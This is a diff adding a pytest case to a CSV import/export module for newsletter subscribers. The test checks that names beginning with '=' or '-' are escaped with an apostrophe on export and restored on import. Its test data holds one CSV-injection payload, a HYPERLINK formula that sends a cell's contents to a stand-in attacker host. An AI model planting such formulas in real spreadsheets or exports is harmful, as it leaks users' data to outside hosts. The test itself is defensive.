@@ -1,5 +1,6 @@
 from __future__ import annotations
 
+import csv
 import io
 import itertools
 import tracemalloc
@@ -221,3 +222,35 @@ def test_a_file_that_is_not_utf8_is_refused_clearly(engine: sa.Engine, tmp_path:
         pytest.raises(SourceError, match="not UTF-8 text"),
     ):
         import_csv(engine, stream, NOW, UTC)
+
+
+def test_a_name_that_looks_like_a_formula_is_exported_as_text_and_comes_back(
+    engine: sa.Engine,
+) -> None:
+    """A reader's name is whatever they typed at sign-up; opened in a spreadsheet, the
+    export must not run it. The apostrophe that keeps it text is taken off on import."""
+    formula = '=HYPERLINK("https://evil.example/?"&A2,"Click")'
+    report = import_csv(
+        engine,
+        io.StringIO(
+            f'email,name\na@example.org,"{formula.replace(chr(34), chr(34) * 2)}"\n'
+            "b@example.org,-5 degrees\nc@example.org,Dewi\n"
+        ),
+        datetime.now(UTC),
+        UTC,
+    )
+    assert report.errors == []
+    out = io.StringIO()
+    export_csv(engine, out)
+    names = {row[0]: row[1] for row in csv.reader(io.StringIO(out.getvalue()))}
+    assert names["a@example.org"] == "'" + formula
+    assert names["b@example.org"] == "'-5 degrees"
+    assert names["c@example.org"] == "Dewi"
+    with Session(engine) as session:
+        for row in session.exec(select(Subscriber)):
+            session.delete(row)
+        session.commit()
+    assert import_csv(engine, io.StringIO(out.getvalue()), datetime.now(UTC), UTC).errors == []
+    with Session(engine) as session:
+        stored = {s.email: s.name for s in session.exec(select(Subscriber))}
+    assert stored["a@example.org"] == formula and stored["b@example.org"] == "-5 degrees"
